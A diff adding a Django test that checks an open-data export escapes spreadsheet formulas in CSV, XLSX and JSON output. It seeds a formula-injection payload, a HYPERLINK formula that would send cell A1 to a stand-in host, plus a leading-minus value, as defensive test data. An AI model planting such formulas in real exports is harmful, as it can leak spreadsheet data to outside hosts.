@@ -12,7 +12,7 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 from openpyxl import load_workbook
 
-from measures.models import Progress
+from measures.models import Measure, Progress
 from measures.services import evidence_add, measure_save, round_reopen, standard_rounds
 from organisations.models import Organisation, User
 
@@ -91,6 +91,24 @@ def test_open_data_is_the_same_content_in_every_format(client, published):
                 assert str(other[field] if other[field] is not None else "") == str(expected), field
     evidence = client.get(rows[0]["evidence"][0].replace("http://testserver", ""))
     assert evidence.status_code == 200
+
+
+def test_open_data_cells_are_never_formulas(client, published):
+    """A title such as =HYPERLINK(…) is data: escaped in the CSV (a leading apostrophe, as
+    spreadsheets expect), a quote-prefixed text cell in the XLSX, unchanged in JSON."""
+    _six, _twelve, first, second = published
+    title = '=HYPERLINK("https://example.invalid/?"&A1,"คลิก")'
+    Measure.objects.filter(pk=first.pk).update(title=title)
+    Progress.objects.filter(measure=second).update(summary="-ยังไม่เสร็จ")
+    data, rows_csv, _rows = formats(client)
+    assert data["rows"][0]["title"] == title
+    assert rows_csv[0]["title"] == "'" + title
+    assert rows_csv[1]["summary"] == "'-ยังไม่เสร็จ"
+    wb = load_workbook(
+        io.BytesIO(client.get(reverse("public-data", kwargs={**Y, "fmt": "xlsx"})).content)
+    )
+    cell = wb.active.cell(2, [c.value for c in wb.active[1]].index("title") + 1)
+    assert (cell.value, cell.data_type, cell.quotePrefix) == (title, "s", True)
 
 
 def test_addresses_stay_the_same_when_titles_change(client, published):
